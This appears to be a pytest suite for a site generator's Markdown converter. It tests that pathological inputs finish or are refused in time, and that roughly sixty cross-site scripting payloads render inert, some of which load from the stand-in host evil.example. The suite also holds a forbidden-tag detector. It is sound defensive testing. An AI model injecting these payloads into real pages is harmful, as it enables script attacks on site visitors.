"""Text that is made to hang, crash or run: bounded time, a clear message, and nothing that a browser would run."""

import re
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest

from gen.content import markdown
from gen.content.document import parse
from tests.hostile.harness import attack
from tests.invalid.cases import HEAD, PLACE, doc

N = 20_000
SLOW = {
    "brackets": "[" * N,
    "links": "[a](" * N,
    "pictures": "![" * N,
    "cdata": "<![CDATA[" * N,
    "footnote references": "x[^1]" * N + "\n\n[^1]: t\n",
}
QUICK = {
    "open tags": "<a " * N,
    "addresses": "<http://" * N,
    "stars": "*a " * N,
    "ticks": "`a" * N,
    "quotes": "> " * 3_000 + "x",
    "deep list": "".join("    " * depth + "- a\n" for depth in range(150)),
    "numbered list": "1. " * 10_000,
    "long table": "|a|b|\n|-|-|\n" + "|1|2|\n" * 5_000,
    "wide table": "|" * N + "\n" + "|-" * N,
    "footnotes": "".join(f"x[^{n}]\n\n[^{n}]: t\n\n" for n in range(1_000)),
    "one line": "长" * 300_000,
    "divs": "<div>" * 50_000,
    "bold": "<b>" * 50_000,
    "anchors": "<a>" * 30_000,
    "formatting": "<b><i><u><em>" * N,
    "tables in tables": "<table><tr><td>" * 300,
    "comments": "<!--" * N,
    "doctype": "<!DOCTYPE " * 5_000,
    "broken declaration": "<![if",
    "entities": "&" * N + "&#9999999999;&#x110000;&#0;",
    "references": "".join(f"[{n}]: x{n}.md\n" for n in range(N)) + "[1]" * 10_000,
    "attribute list": "a{: " + "a=b " * 10_000 + "}",
    "fences": "```\n" * 5_001,
    "blank lines": "\n" * 300_000,
    "stash marks": "\x02klzzwxh:0\x03 \x02wzxhzdk:0\x03" * 100,
}


@pytest.mark.parametrize("name", SLOW)
def test_text_that_takes_too_long_is_refused_in_time(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "MAX_SECONDS", 0.3)
    started = time.perf_counter()
    found = markdown.convert(SLOW[name], 7)
    assert time.perf_counter() - started < 3
    assert [(issue.code, issue.line) for issue in found.issues] == [("markdown.time", 7)]


@pytest.mark.parametrize("name", QUICK)
def test_strange_text_is_rendered_or_refused_at_once(name: str) -> None:
    started = time.perf_counter()
    found = markdown.convert(QUICK[name], 1)
    assert time.perf_counter() - started < 6
    assert {issue.code for issue in found.issues} <= {"markdown.depth", "markdown.h1"}


def test_after_a_refused_text_the_next_one_is_rendered_as_ever(monkeypatch: pytest.MonkeyPatch) -> None:
    expected = markdown.convert("## 甲\n\n[^1] 乙\n\n[^1]: 丙\n", 1)
    with monkeypatch.context() as patched:
        patched.setattr(markdown, "MAX_SECONDS", 0.1)
        markdown.convert("[" * N, 1)
    assert markdown.convert("## 甲\n\n[^1] 乙\n\n[^1]: 丙\n", 1) == expected


def test_thousands_of_links_cost_little_and_know_their_lines() -> None:
    text = "".join(f"[a](x{n}.md)\n\n" for n in range(3_000))
    found = markdown.convert(text, 1)
    assert [use.line for use in found.uses] == [2 * n + 1 for n in range(3_000)]


def test_thousands_of_dead_links_are_told_in_time(tmp_path: Path) -> None:
    links = "".join(f"[a](none{n}.md)\n" for n in range(2_000))
    found = attack(tmp_path, {PLACE: doc(body=links)})
    assert found.codes == {"link.dead"}
    assert len(found.issues) == 2_000


SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<p onclick=alert(1) onmouseover='alert(1)'>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='&Tab;javascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java%0ascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<style>body{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=x><button>x</button></form>",
    "<video src=x onerror=alert(1)></video><audio src=//evil.example></audio>",
    "<details ontoggle=alert(1) open>x</details>",
    "<p title='x\" onclick=\"alert(1)'>x</p>",
    "<p id='x\" onclick=\"alert(1)'>x</p>",
    '<b title="<img src=x onerror=alert(1)>">x</b>',
    "x{: onclick=alert(1) style=x }",
    "![x](a.png){: onerror=alert(1) }",
    '!["onerror=alert(1) x="](a/x.png)',
    '[x](a.md "t\\" onclick=alert(1) \\"")',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "<!--><img src=x onerror=alert(1)>-->",
    "<?php echo 1 ?><![CDATA[<script>alert(1)</script>]]>",
    "</div></article></main><script>alert(1)</script>",
    "<x-element onclick=alert(1)></x-element>",
    "<a href='//evil.example' target=_top ping=//evil.example>x</a>",
    "\x00<script\x00>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
FORBIDDEN = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "base",
    "form",
    "input",
    "button",
    "video",
    "audio",
    "template",
    "noscript",
    "x-element",
    "frame",
    "applet",
}


class _Watch(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN:
            self.found.append(tag)
        for name, value in attrs:
            target = re.sub(r"[\x00-\x20]", "", value or "").lower()
            is_script = name in ("href", "src", "action") and target.startswith(
                ("javascript:", "vbscript:", "data:", "//")
            )
            if name.startswith("on") or name in ("style", "srcdoc", "ping", "target") or is_script:
                self.found.append(f"{tag} {name}={value}")


@pytest.mark.parametrize("text", SCRIPTS)
def test_nothing_in_a_text_runs_or_loads(text: str) -> None:
    found = markdown.convert(f"前\n\n{text}\n\n后 {text}\n", 1)
    html = "".join(
        part if isinstance(part, str) else f"<x {getattr(part, 'attributes', '')}>"
        for part in found.body.parts
    )
    watch = _Watch()
    watch.feed(html)
    watch.close()
    assert watch.found == []


def test_pages_of_hostile_texts_hold_only_what_the_theme_put_there(tmp_path: Path) -> None:
    changes = {
        f"content/edu/news/x{n}.md": doc(body=text) for n, text in enumerate(SCRIPTS) if "x.png" not in text
    }
    found = attack(tmp_path, changes)
    watch = _Watch()
    for path, data in found.tree.items():
        if path.endswith(".html") and "/x" in path:
            watch.feed(data.decode())
    assert [one for one in watch.found if "stylesheet" not in one] == []


@pytest.mark.parametrize(
    "data",
    [
        b"\xff\xfe" + HEAD.encode("utf-16-le"),
        HEAD.encode("gb18030") + b"---\n",
        b"\x00" * 1_000,
        b"---\n\x00: x\n---\n",
        b"",
        b"---\n",
        b"---\n---\n",
        b"\xef\xbb\xbf\xef\xbb\xbf---\n---\n",
    ],
)
def test_bytes_that_are_no_document_are_refused(data: bytes) -> None:
    assert parse(data, intro=False).failed


@pytest.mark.parametrize("ends", ["\n", "\r\n", "\r"])
@pytest.mark.parametrize("mark", ["", "\ufeff"])
def test_bom_and_line_ends_of_any_system_make_no_difference(ends: str, mark: str) -> None:
    text = f"{HEAD}---\n甲\n\n- 乙\n- [丙](x.md)\n"
    found = parse((mark + text.replace("\n", ends)).encode(), intro=False)
    assert found == parse(text.encode(), intro=False)
    assert [use.line for use in found.uses] == [8]


def test_word_processors_control_characters_in_a_text_do_no_harm(tmp_path: Path) -> None:
    found = attack(tmp_path, {PLACE: doc(body="甲\x0b乙\x07\x00丙\n")})
    assert not found.issues
    assert "甲 乙  丙" in found.page("edu/news/bad.html")
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", found.text())
